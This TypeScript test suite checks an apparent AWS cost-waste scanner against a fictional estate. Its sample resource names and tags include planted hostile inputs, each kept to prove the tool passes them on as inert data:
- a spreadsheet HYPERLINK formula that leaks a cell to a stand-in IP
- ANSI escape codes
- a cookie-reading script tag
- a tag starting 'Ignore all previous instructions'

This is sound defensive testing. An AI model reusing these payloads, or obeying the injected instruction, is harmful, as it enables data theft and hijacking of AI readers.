import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { claimantOf, countedClaims } from "../../core/finding/claims.ts"
import type { Finding } from "../../core/finding/Finding.ts"
import { monthlyUsdOf, see } from "../../core/finding/lifecycle.ts"
import { sampleNight } from "../../sample/estate.ts"
import { estate } from "../../sample/organization.ts"
import { audit, type Audited } from "./harness.ts"

const { calls, results } = await Effect.runPromise(audit())

const nameOf = ({ resource }: Pick<Finding, "resource">) => (resource.name === "" ? resource.id : resource.name)

/** What is without its tags is much, and has a table of its own. */
const untagged = "find_untagged_resources"

/** `name: reason+reason` of every finding, by scan and scope. */
const flagged = () => {
  const table: Record<string, Record<string, ReadonlyArray<string>>> = {}
  for (const { drafts, name, scope } of results.filter(({ name }) => name !== untagged)) {
    table[name] ??= {}
    if (drafts.length > 0)
      table[name][scope] = drafts.map((draft) => `${nameOf(draft)}: ${draft.reasons.join("+")}`).sort()
  }
  return table
}

const round = (usd: number) => Math.round(usd * 100) / 100

const resultOf = (scan: string, scope: string): Audited => {
  const found = results.find((result) => result.name === scan && result.scope === scope)
  assert.isDefined(found, `${scan} did not run in ${scope}`)
  return found as Audited
}

const draftOf = (scan: string, scope: string, name: string) => {
  const found = resultOf(scan, scope).drafts.find((draft) => nameOf(draft) === name)
  assert.isDefined(found, `${scan} did not flag ${name}`)
  return found as Audited["drafts"][number]
}

/** The counters of a scan over all scopes. */
const countersOf = (scan: string) => {
  const sum = { examined: 0, flagged: 0, tooYoung: 0, suppressed: 0, unknown: 0 }
  for (const { counters } of results.filter(({ name }) => name === scan)) {
    for (const key of Object.keys(sum) as Array<keyof typeof sum>) sum[key] += counters[key]
  }
  return sum
}

/** A draft as it is kept on its first night. */
const firstNight = (draft: Audited["drafts"][number]): Finding => {
  const unbroken = { since: sampleNight.toISOString(), sequence: 1 }
  const transition = see(draft, undefined, { runId: "first", now: sampleNight, sequence: 1, unbroken })
  if (transition === undefined) throw new Error("a new finding is always written")
  return transition.finding
}

describe("a night over the sample estate", () => {
  it("flags exactly what is wasted", () => {
    assert.deepStrictEqual(flagged(), {
      find_unused_amis: {
        "shop-production/eu-central-1": [
          "checkout-poc-2024-08: unused",
          "shop-web-2025-06-02: unused",
          "shop-web-2025-11-20: unused"
        ],
        "shop-production/eu-west-1": ["forecast-2026-01: unused", "notebook-2025-02: unused"],
        "shop-staging/eu-central-1": ["shop-web-rc-2026-02: unused"]
      },
      find_unused_elastic_ips: {
        "payer/us-east-1": ["finance-desktop: stopped_instance"],
        "shop-production/ap-southeast-2": ["au-launch: unassociated"],
        "shop-production/eu-central-1": [
          '=HYPERLINK("http://203.0.113.99/?leak="&A1,"open me"): unassociated',
          "erp-legacy: stopped_instance",
          "failover: detached_eni",
          "own-range: unassociated"
        ],
        "shop-production/eu-west-1": [
          "loadtest-1: unassociated",
          "loadtest-2: unassociated",
          "loadtest-3: unassociated"
        ],
        "shop-staging/eu-central-1": ["qa-phone-lab: unassociated"]
      },
      find_unused_lambda_functions: {
        "shop-production/eu-central-1": [
          "SecretsManager-rotate-orders-db: not_invoked",
          "dead-letter-replay: not_invoked",
          "flash-sale-queue: not_invoked",
          "legacy-price-import: not_invoked",
          "wishlist-share: not_invoked"
        ],
        "shop-production/us-east-1": ["us-black-friday-2024: not_invoked"]
      },
      find_unused_load_balancers: {
        "shop-production/eu-central-1": [
          "campaign-summer-2025: idle",
          "ftp-drop: no_targets",
          "k8s-preview-ingress: idle"
        ],
        "shop-production/us-east-1": ["us-web-classic: idle"],
        "shop-staging/eu-central-1": ["staging-web-v1: idle"]
      },
      find_unused_log_groups: {
        "payer/us-east-1": ["aws-cloudtrail-logs-organization: never_expires"],
        "shop-production/eu-central-1": [
          "/aws/codebuild/loadtest: empty",
          "/aws/lambda/legacy-price-import: stale",
          "/aws/lambda/newsletter-send: stale",
          "/shop/web-2021/application: stale",
          "/shop/web/access: never_expires"
        ],
        "shop-production/eu-west-1": ["/aws/sagemaker/TrainingJobs: stale"],
        "shop-production/us-east-1": ["/aws/lambda/us-black-friday-2023: stale"],
        "shop-staging/eu-central-1": ["/staging/web/debug: never_expires"],
        "shop-staging/eu-west-1": ["/rehearsal/web: stale"]
      },
      find_unused_security_groups: {
        "shop-production/eu-central-1": [
          "jenkins-2019: unattached",
          "old-cluster: unattached",
          "ssh-from-anywhere: unattached"
        ],
        "shop-production/eu-west-1": ["rdp-vendor: unattached"]
      },
      find_unused_snapshots: {
        "shop-production/eu-central-1": [
          "catalog-seed: fast_restore_enabled+volume_deleted",
          "crm-archive-2023: volume_deleted",
          "crm-final-2024: volume_deleted",
          "search-2025-09: superseded",
          "search-2026-03: superseded",
          // It has no name: the leftover of an image of 2021.
          "snap-0c439294691057dc4: ami_deregistered"
        ],
        "shop-production/us-east-1": ["us-launch-2022: volume_deleted"],
        "shop-staging/eu-west-1": [
          "rehearsal-1: volume_deleted",
          "rehearsal-2: volume_deleted",
          "rehearsal-3: volume_deleted"
        ]
      },
      find_unused_target_groups: {
        "shop-production/eu-central-1": [
          "campaign-summer-2025: no_traffic",
          "ftp-drop: no_targets",
          "recommend-beta: no_traffic",
          "shop-web-2022: unattached"
        ]
      },
      find_unused_volumes: {
        "payer/us-east-1": ["finance-desktop-root: stopped_instance"],
        "shop-production/ap-southeast-2": ["au-catalog-copy: unattached"],
        "shop-production/eu-central-1": [
          "erp-legacy-disk1: stopped_instance",
          "erp-legacy-root: stopped_instance",
          "orders-db-2019: unattached",
          "orders-db-restore-test: unattached",
          "pvc-grafana: unattached",
          "vendor-appliance-root: stopped_instance"
        ],
        "shop-production/eu-west-1": [
          "forecast-training-disk1: stopped_instance",
          "forecast-training-root: stopped_instance"
        ],
        "shop-production/us-east-1": [
          "[31mpayments-replica[0m: unattached",
          "us-analytics-scratch: unattached",
          "us-web-logs-2020: unattached"
        ],
        "shop-staging/eu-central-1": [
          "loadtest-agent-1-root: stopped_instance",
          "loadtest-agent-2-root: stopped_instance",
          "loadtest-agent-3-root: stopped_instance",
          "loadtest-agent-4-root: stopped_instance",
          "orders-restore-release-1: unattached",
          "orders-restore-release-2: unattached",
          "orders-restore-release-3: unattached",
          "orders-restore-release-4: unattached",
          "orders-restore-release-5: unattached",
          "orders-restore-release-6: unattached"
        ],
        "shop-staging/eu-west-1": ["rehearsal-orders: unattached", "rehearsal-search: unattached"]
      },
      find_unused_cloudfront_distributions: {
        "shop-production/global": [
          "2024.larkspur-outdoor.example: no_requests",
          "blog.larkspur-outdoor.example: disabled",
          "pay-legacy.larkspur-outdoor.example: no_requests"
        ]
      },
      find_unused_internet_gateways: {
        "shop-production/eu-central-1": ["old-vpn: detached"],
        "shop-staging/eu-west-1": ["rehearsal: detached"]
      },
      find_unused_nat_gateways: {
        "shop-production/ap-southeast-2": ["nat-a: no_traffic_routed"],
        "shop-production/eu-central-1": ["nat-migration: no_traffic_routed"],
        "shop-production/eu-west-1": ["nat-b: no_traffic_unrouted"],
        "shop-staging/eu-west-1": ["nat-regional: no_traffic_routed"]
      },
      find_unused_route53_hosted_zones: {
        "shop-production/global": [
          "larkspur-camping.example.: empty",
          "migration.internal.: empty",
          "summer-2023.larkspur-outdoor.example.: no_queries"
        ],
        "shop-staging/global": ["preview-2024.larkspur-outdoor.example.: no_queries"]
      },
      find_unused_vpc_endpoints: {
        "shop-production/eu-central-1": [
          "dynamodb: gateway_without_routes",
          "kinesis: no_traffic",
          "logs-from-template: duplicate"
        ],
        "shop-production/eu-west-1": ["sagemaker: no_traffic"],
        "shop-staging/eu-central-1": ["ecr.api: no_traffic", "secretsmanager: no_traffic"]
      },
      find_unused_s3_buckets: {
        "shop-production/global": ["larkspur-au-assets: empty", "larkspur-photo-contest: no_requests"],
        "shop-staging/global": ["larkspur-staging-import-test: empty"]
      },
      get_s3_storage_class_recommendations: {
        "payer/global": [
          "larkspur-cost-and-usage: no_abort_multipart",
          "larkspur-organization-trail: no_abort_multipart"
        ],
        "shop-production/global": [
          "larkspur-campaign-2024: glacier_ir",
          "larkspur-data-lake: noncurrent_no_expiry+no_abort_multipart",
          "larkspur-manuals: glacier_ir",
          "larkspur-photo-contest: glacier_ir",
          "larkspur-product-images: noncurrent_no_expiry+no_abort_multipart",
          "larkspur-warehouse-scans: no_abort_multipart"
        ]
      },
      find_underutilized_ec2_instances: {
        "shop-production/eu-central-1": [
          "batch-import: oversized",
          // The group, and none of its three members.
          "import-workers: oversized",
          "intranet-wiki: idle",
          "price-crawler: oversized"
        ]
      },
      find_unused_dynamodb_tables: {
        "shop-production/eu-central-1": [
          "clickstream-2024: unused",
          "loyalty-points-2021: unused",
          "terraform-locks: unused"
        ]
      },
      find_unused_sqs_queues: {
        "shop-production/eu-central-1": [
          "partner-returns: abandoned_backlog",
          "price-feed: polled_idle",
          "warehouse-events-2022: unused"
        ]
      },
      analyze_reserved_instance_utilization: {
        "payer/global/payer": [
          "c5.2xlarge: underused",
          "db.r6g.large: expiring",
          // An EC2 Instance Savings Plan of that family.
          "m5: underused",
          "m6i.large: expired_recently"
        ]
      },
      get_all_cost_optimization_recommendations: {
        "payer/global/payer": [
          "$2.10 an hour for 1 year, no upfront payment: purchase_savings_plans",
          "gpu-notebook: stop",
          // Cost Optimization Hub tells a name only where there is a tag: search-1, and the volume orders-db-2019.
          "i-02719a602fe8f3eb4: rightsize",
          "orders-replica: migrate_to_graviton",
          "space-7: delete",
          "vol-0ac1e64389b26e4b0: delete"
        ]
      },
      get_cost_by_service: {},
      get_daily_cost_trend: { "payer/global/payer": ["Amazon Bedrock: above_weekdays"] }
    })
  })

  it("names what lacks the tags that everything must have, but for what every region comes with", () => {
    const table: Record<string, Record<string, ReadonlyArray<string>>> = {}
    for (const { drafts, scope } of results.filter(({ name }) => name === untagged)) {
      for (const draft of drafts) {
        const byType = (table[scope] ??= {})
        byType[draft.resource.type] = [...(byType[draft.resource.type] ?? []), nameOf(draft)].sort()
        assert.deepStrictEqual(draft.reasons, ["missing_tags"])
        assert.deepStrictEqual(draft.evidence["missing"], ["CostCenter", "Environment", "Owner"])
      }
    }
    assert.deepStrictEqual(table, {
      "shop-production/ap-southeast-2": {
        "ec2:subnet": ["main-a", "main-b", "main-c"],
        "ec2:route-table": ["private"]
      },
      "shop-production/eu-central-1": {
        "ec2:elastic-ip": ["eipalloc-0810dc44dabfa1f7a"],
        "ec2:instance": ["eks-auto-i-1"],
        "ec2:security-group": ["sg-03ca1d28ae79f38e5"],
        "ec2:snapshot": [
          "snap-00c0339c935c15920",
          "snap-00ebe97c5794cb82c",
          "snap-02c175d7f651ca938",
          "snap-02f37943485d65fb1",
          "snap-06f1c7f6cd7a55ffe",
          "snap-07ad2fc5a0497a7f8",
          "snap-080872b67c43a4a12",
          "snap-087784fa88b6eb0d4",
          "snap-08d121dba69459ed0",
          "snap-0933893a1b478a2d0",
          "snap-0c335553b1380862d",
          "snap-0c439294691057dc4",
          "snap-0c6764ba64ba6242c",
          "snap-0ea823dee89c1a473"
        ],
        "ec2:volume": ["eks-auto-i-1-root", "eks-auto-spare", "pvc-grafana"],
        "ec2:vpc-endpoint": ["managed-grafana"],
        "ec2:vpc-endpoint-service": ["partner-feed"],
        "ec2:subnet": ["main-a", "main-b", "main-c", "migration-a", "migration-b", "migration-c"],
        "ec2:route-table": ["migration", "private-a", "private-b", "public"],
        "ecs:cluster": ["shop"],
        "elasticloadbalancing:loadbalancer/app": ["app/k8s-preview-ingress/6a55f8dce1328900"],
        "logs:log-group": ["/aws/lambda/newsletter-send"],
        "s3:bucket": ["cdk-hnb659fds-assets-444455556666-eu-central-1"]
      },
      "shop-production/eu-west-1": {
        "ec2:snapshot": [
          "snap-01909646406f0366f",
          "snap-041a9f7ba8573af93",
          "snap-0892176cd81a8ab09",
          "snap-0a30e5659f8100cdb",
          "snap-0cc385395d36a3367"
        ],
        "ec2:vpc-endpoint": ["s3"],
        "ec2:subnet": ["main-a", "main-b", "main-c"],
        "ec2:route-table": ["private", "public"]
      },
      "shop-production/us-east-1": {
        "ec2:subnet": ["main-a", "main-b", "main-c"],
        "ec2:route-table": ["public"],
        "route53:hostedzone": ["Z0E3G8WMNAMZT2QO5AYPOZ"]
      },
      "shop-staging/eu-central-1": {
        "ec2:vpc-endpoint": ["s3"],
        "ec2:subnet": ["main-a", "main-b", "main-c"],
        "ec2:route-table": ["private", "public"],
        "ec2:snapshot": ["snap-0444d067ab88f4064", "snap-0c5afaa183a20732e"]
      },
      "shop-staging/eu-west-1": {
        "ec2:subnet": ["main-a", "main-b", "main-c"],
        "ec2:route-table": ["private"]
      },
      "shop-staging/us-east-1": {
        "ec2:subnet": ["main-a", "main-b", "main-c"]
      }
    })
  })

  it("adds up what each scan would save, and counts every dollar once", () => {
    const sums: Record<string, number> = {}
    for (const { drafts, name } of results) {
      for (const { savings } of drafts) {
        if (savings !== null) sums[name] = round((sums[name] ?? 0) + savings.monthlyUsd)
      }
    }
    assert.deepStrictEqual(sums, {
      find_underutilized_ec2_instances: 584,
      find_unused_amis: 55.1,
      find_unused_cloudfront_distributions: 600,
      find_unused_dynamodb_tables: 322.89,
      find_unused_elastic_ips: 32.85,
      find_unused_lambda_functions: 658.93,
      find_unused_load_balancers: 122.64,
      find_unused_log_groups: 200.34,
      find_unused_nat_gateways: 204.4,
      find_unused_route53_hosted_zones: 2,
      find_unused_s3_buckets: 98.9,
      find_unused_snapshots: 1487.36,
      find_unused_sqs_queues: 3.05,
      find_unused_volumes: 3117.92,
      find_unused_vpc_endpoints: 103.66,
      get_all_cost_optimization_recommendations: 5558.7,
      get_s3_storage_class_recommendations: 108.22
    })
    const findings = results.flatMap(({ drafts }) => drafts.map(firstNight))
    const counted = countedClaims(findings.map(claimantOf))
    const uncounted = findings.filter((one) => monthlyUsdOf(one) > 0 && !counted.has(one.id))
    assert.deepStrictEqual(uncounted.map((one) => `${one.scan}: ${nameOf(one)}, ${monthlyUsdOf(one)}`).sort(), [
      "find_unused_volumes: orders-db-2019, 854.5",
      "get_all_cost_optimization_recommendations: $2.10 an hour for 1 year, no upfront payment, 498.2",
      "get_s3_storage_class_recommendations: larkspur-photo-contest, 81.7"
    ])
    const total = findings.reduce((sum, one) => sum + (counted.has(one.id) ? monthlyUsdOf(one) : 0), 0)
    assert.strictEqual(round(total), 11_826.56)
  })

  it("says for every scope where it could not look, and why", () => {
    const gaps = results
      .filter(({ status }) => status !== "complete")
      .map(({ name, reason, scope, status }) => `${scope} ${name}: ${status}, ${reason?.code}`)
      .sort()
    const regional = [
      "find_underutilized_ec2_instances",
      "find_untagged_resources",
      "find_unused_amis",
      "find_unused_dynamodb_tables",
      "find_unused_elastic_ips",
      "find_unused_internet_gateways",
      "find_unused_lambda_functions",
      "find_unused_load_balancers",
      "find_unused_log_groups",
      "find_unused_nat_gateways",
      "find_unused_security_groups",
      "find_unused_snapshots",
      "find_unused_sqs_queues",
      "find_unused_target_groups",
      "find_unused_volumes",
      "find_unused_vpc_endpoints"
    ]
    assert.deepStrictEqual(gaps, [
      // CloudWatch refuses one series of each.
      ...[
        "find_underutilized_ec2_instances",
        "find_unused_dynamodb_tables",
        "find_unused_lambda_functions",
        "find_unused_load_balancers",
        "find_unused_sqs_queues",
        "find_unused_target_groups"
      ].map((scan) => `shop-production/eu-central-1 ${scan}: partial, unreachable`),
      // One bucket keeps everybody out.
      "shop-production/global find_unused_s3_buckets: partial, denied_by_resource_policy",
      "shop-production/global get_s3_storage_class_recommendations: partial, denied_by_resource_policy",
      ...regional.map((scan) => `shop-staging/ap-southeast-2 ${scan}: unavailable, denied_by_scp`),
      // ElastiCache is not read there, and a group without a known consumer may have that one.
      ...["eu-central-1", "eu-west-1", "us-east-1"].map(
        (region) => `shop-staging/${region} find_unused_security_groups: partial, denied_by_iam`
      )
    ])
    const denied = resultOf("find_unused_volumes", "shop-staging/ap-southeast-2")
    assert.deepStrictEqual(denied.drafts, [])
    assert.include(denied.reason?.message ?? "", "service control policy")
  })

  it("counts what it examined, and what of it was not judged", () => {
    const counters = Object.fromEntries(
      [...new Set(results.map(({ name }) => name))].map((scan) => {
        const { examined, flagged, suppressed, tooYoung, unknown } = countersOf(scan)
        return [scan, [examined, flagged, tooYoung, unknown, suppressed]]
      })
    )
    // Examined, flagged, too young, unknown, suppressed; all others are healthy.
    assert.deepStrictEqual(counters, {
      // Bought four days ago.
      analyze_reserved_instance_utilization: [8, 4, 1, 0, 0],
      // gift-guide-preview is new; product-renders has a GPU, and CloudWatch refuses fraud-model.
      find_underutilized_ec2_instances: [37, 4, 1, 2, 0],
      find_untagged_resources: [645, 71, 0, 0, 0],
      find_unused_amis: [17, 6, 3, 0, 0],
      find_unused_cloudfront_distributions: [7, 3, 1, 0, 0],
      // gift-cards is new, and CloudWatch refuses fraud-scores.
      find_unused_dynamodb_tables: [10, 3, 1, 1, 0],
      // partner-allow-list.
      find_unused_elastic_ips: [25, 10, 0, 0, 1],
      find_unused_internet_gateways: [15, 2, 0, 0, 0],
      // Staging is deployed too often; CloudWatch refuses fraud-score; disaster-failover is suppressed.
      find_unused_lambda_functions: [82, 6, 11, 1, 1],
      // checkout-v2 is new, and CloudWatch refuses internal-tools.
      find_unused_load_balancers: [16, 5, 1, 1, 0],
      find_unused_log_groups: [85, 10, 1, 0, 0],
      // nat-c is new, and nat-inspection has no metric at all.
      find_unused_nat_gateways: [11, 4, 1, 1, 0],
      find_unused_route53_hosted_zones: [10, 4, 0, 0, 0],
      // Nothing counts the requests to most buckets, and larkspur-video-ingest is not quite empty.
      find_unused_s3_buckets: [23, 3, 1, 9, 0],
      // A cache may have it that nobody may list.
      find_unused_security_groups: [37, 4, 0, 1, 0],
      // Copies do not tell of which volume they are; court-order-4711 is suppressed.
      find_unused_snapshots: [60, 10, 10, 12, 1],
      // gift-wrap is new, and CloudWatch refuses fraud-events.
      find_unused_sqs_queues: [10, 3, 1, 1, 0],
      // internal-tools again.
      find_unused_target_groups: [15, 4, 0, 1, 0],
      // forensics-2025-03.
      find_unused_volumes: [71, 25, 0, 0, 1],
      find_unused_vpc_endpoints: [16, 6, 1, 0, 0],
      get_all_cost_optimization_recommendations: [7, 6, 0, 0, 1],
      get_cost_by_service: [34, 0, 0, 0, 0],
      get_daily_cost_trend: [169, 1, 0, 0, 0],
      // The bucket that keeps everybody out; larkspur-legal-hold is suppressed.
      get_s3_storage_class_recommendations: [23, 8, 1, 1, 1]
    })
  })

  it("names what it did not judge", () => {
    const unknown = results.flatMap(({ name, scope, unjudged }) =>
      unjudged.flatMap(({ resource, state, why }) =>
        state === "unknown" ? [`${scope} ${name}: ${resource}, ${why}`] : []
      )
    )
    assert.deepStrictEqual(unknown.sort(), [
      "payer/global find_unused_s3_buckets: larkspur-cost-and-usage, S3 counts no requests to the whole bucket",
      "payer/global find_unused_s3_buckets: larkspur-organization-trail, S3 counts no requests to the whole bucket",
      "shop-production/eu-central-1 find_underutilized_ec2_instances: i-04e836e57835f8275, g5.xlarge has accelerators, of whose use its CPU says nothing",
      "shop-production/eu-central-1 find_underutilized_ec2_instances: i-0e93139f58ee5e57b, AWS/EC2 CPUUtilization: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-central-1 find_unused_dynamodb_tables: fraud-scores, AWS/DynamoDB ConsumedReadCapacityUnits: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-central-1 find_unused_lambda_functions: fraud-score, AWS/Lambda Invocations: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-central-1 find_unused_load_balancers: app/internal-tools/c4bd1b94f6eafe13, AWS/ApplicationELB RequestCount: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-central-1 find_unused_nat_gateways: nat-05845516d0506e2a1, AWS/NATGateway BytesOutToDestination has no datapoints, and that does not prove idleness",
      "shop-production/eu-central-1 find_unused_sqs_queues: fraud-events, AWS/SQS NumberOfMessagesReceived: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-central-1 find_unused_target_groups: internal-tools, AWS/ApplicationELB RequestCount: cloudwatch:GetMetricData: not reachable (InternalError)",
      "shop-production/eu-west-1 find_unused_snapshots: snap-019180dd313a7c8a3, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-032c8586c0a7eb67d, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-05a09ebfd42b72c31, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0a53b7964bc4bb431, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0b3c42287831aaf9f, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0b715457857ca6da7, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0d222e5e22501d536, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0d8e5b44a10636105, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0db15acd351031f78, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0dc417f7c5eca5b39, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0e5c24f5a806a29b3, a copy: EC2 does not tell of which volume",
      "shop-production/eu-west-1 find_unused_snapshots: snap-0e8762dad23a9b696, a copy: EC2 does not tell of which volume",
      "shop-production/global find_unused_s3_buckets: larkspur-customer-uploads, S3 counts no requests to the whole bucket",
      "shop-production/global find_unused_s3_buckets: larkspur-data-lake, S3 counts no requests to the whole bucket",
      "shop-production/global find_unused_s3_buckets: larkspur-legal-hold, S3 counts no requests to the whole bucket",
      "shop-production/global find_unused_s3_buckets: larkspur-order-archive, S3 counts no requests to the whole bucket",
      "shop-production/global find_unused_s3_buckets: larkspur-payment-vault, s3:ListBucketMetricsConfigurations: denied by the resource's own policy: whoever owns the resource can let the role in there",
      "shop-production/global find_unused_s3_buckets: larkspur-video-ingest, it holds something of which CloudWatch has no size",
      "shop-production/global find_unused_s3_buckets: larkspur-warehouse-scans, S3 counts no requests to the whole bucket",
      "shop-production/global get_s3_storage_class_recommendations: larkspur-payment-vault, s3:GetBucketLifecycleConfiguration: denied by the resource's own policy: whoever owns the resource can let the role in there",
      "shop-staging/eu-west-1 find_unused_security_groups: sg-0daab0ecba5b07d30, elasticache:DescribeCacheClusters: denied by IAM: a permission is missing"
    ])
  })

  it("makes no more calls than it needs", () => {
    const byService: Record<string, number> = {}
    for (const { calls: made, service } of calls) byService[service] = (byService[service] ?? 0) + made
    assert.deepStrictEqual(byService, {
      autoscaling: 28,
      batch: 2,
      ce: 9,
      cloudfront: 6,
      cloudwatch: 83,
      codebuild: 2,
      "compute-optimizer": 5,
      "cost-optimization-hub": 4,
      dynamodb: 25,
      ec2: 284,
      ecs: 14,
      elasticache: 12,
      elasticloadbalancing: 48,
      events: 2,
      glue: 2,
      lambda: 34,
      logs: 21,
      rds: 24,
      "resource-explorer-2": 20,
      route53: 11,
      route53domains: 4,
      s3: 108,
      sagemaker: 6,
      scheduler: 2,
      sqs: 22,
      tag: 35
    })
  })

  it("asks again what was throttled once, and pages what does not fit one answer", () => {
    const count = (operation: string) => calls.find((call) => call.operation === operation)
    assert.deepStrictEqual(
      calls.filter(({ throttled }) => throttled > 0).map(({ operation, throttled }) => [operation, throttled]),
      [["DescribeLogGroups", 1]]
    )
    assert.strictEqual(resultOf("find_unused_log_groups", "shop-production/eu-west-1").status, "complete")
    // 11 scopes let it list functions and log groups; in one of them the lists take two pages; one region is denied.
    assert.strictEqual(count("ListFunctions")?.calls, 11 + 1 + 1)
    assert.strictEqual(count("DescribeLogGroups")?.calls, 11 + 1 + 1 + 1)
  })

  it("keeps text from strangers from doing anything", () => {
    const volume = draftOf("find_unused_volumes", "shop-production/us-east-1", "[31mpayments-replica[0m")
    assert.strictEqual(volume.resource.tags["comment"], "moved ot gpj.eruces")
    const everything = JSON.stringify(results.map(({ drafts, report }) => ({ drafts, report })))
    // Escapes as JSON writes them, and the marks that it leaves as they are.
    assert.notMatch(everything, /\\u00[01][0-9a-f]|[\u007f-\u009f\u202a-\u202e]/)
    // What only harms where it is rendered is kept, for the renderers' tests.
    const owner = draftOf("find_unused_lambda_functions", "shop-production/eu-central-1", "wishlist-share").resource
      .tags["Owner"]
    assert.strictEqual(owner, "<script>alert(document.cookie)</script>")
    const note = draftOf("find_unused_volumes", "shop-production/eu-central-1", "orders-db-2019").resource.tags["note"]
    assert.match(note ?? "", /^Ignore all previous instructions/)
  })

  it("counts a volume once that two scans want deleted", () => {
    const ours = firstNight(draftOf("find_unused_volumes", "shop-production/eu-central-1", "orders-db-2019"))
    const hub = firstNight(draftOf("get_all_cost_optimization_recommendations", "payer/global/payer", ours.resource.id))
    assert.strictEqual(hub.resource.arn, ours.resource.arn)
    assert.strictEqual(hub.account, ours.account)
    // Ours has yet to be confirmed.
    assert.deepStrictEqual([...countedClaims([ours, hub].map(claimantOf))], [hub.id])
  })

  it("counts a bucket once that could go or get colder", () => {
    const scope = "shop-production/global"
    const unused = firstNight(draftOf("find_unused_s3_buckets", scope, "larkspur-photo-contest"))
    const colder = firstNight(draftOf("get_s3_storage_class_recommendations", scope, "larkspur-photo-contest"))
    assert.isTrue(unused.confirmed)
    assert.deepStrictEqual([...countedClaims([unused, colder].map(claimantOf))], [unused.id])
  })

  it("hears of the account that it cannot enter from the bill alone", () => {
    const locked = estate.accounts.find(({ name }) => name === "data-sandbox")?.id
    const found = results.flatMap(({ drafts }) => drafts).filter(({ account }) => account === locked)
    assert.deepStrictEqual(found.map(nameOf).sort(), ["gpu-notebook", "space-7"])
  })

  it("pays different prices in different regions", () => {
    const nat = (scope: string, name: string) => draftOf("find_unused_nat_gateways", scope, name).savings?.monthlyUsd
    assert.strictEqual(nat("shop-production/eu-central-1", "nat-migration"), 41.61)
    assert.strictEqual(nat("shop-production/ap-southeast-2", "nat-a"), 46.72)
  })

  it("reports what services cost and which one grew", () => {
    const report = resultOf("get_cost_by_service", "payer/global/payer").report
    const grown = report?.rows.filter(({ grew }) => grew === true).map(({ service }) => service)
    assert.deepStrictEqual(grown, ["Amazon SageMaker"])
    const kinds = Object.fromEntries((report?.rows ?? []).map((row) => [row["service"], row]))
    assert.strictEqual(kinds["Tax"]?.["tax"], 4120)
    assert.strictEqual(kinds["AWS Lambda"]?.["credits"], -300)
    const trend = resultOf("get_daily_cost_trend", "payer/global/payer").report
    assert.strictEqual(trend?.rows.length, 30)
  })
})

describe("the nights after", () => {
  it("show the same again, but for what another day confirms", async () => {
    const findings = new Map(results.flatMap(({ drafts }) => drafts).map((draft) => [draft.id, firstNight(draft)]))
    const now = new Date("2026-11-21T02:00:00Z")
    const next = await Effect.runPromise(audit({ now }))
    const drafts = next.results.flatMap(({ drafts }) => drafts)
    assert.sameMembers(
      drafts.map(({ id }) => id),
      [...findings.keys()]
    )

    const unbroken = { since: sampleNight.toISOString(), sequence: 1 }
    const events = drafts.flatMap((draft) => {
      const transition = see(draft, findings.get(draft.id), { runId: "next", now, sequence: 2, unbroken })
      return (transition?.events ?? []).map(({ type }) => `${draft.scan}: ${type}`)
    })
    assert.deepStrictEqual([...new Set(events)].sort(), [
      "find_unused_elastic_ips: confirmed",
      "find_unused_security_groups: confirmed"
    ])
  })
})
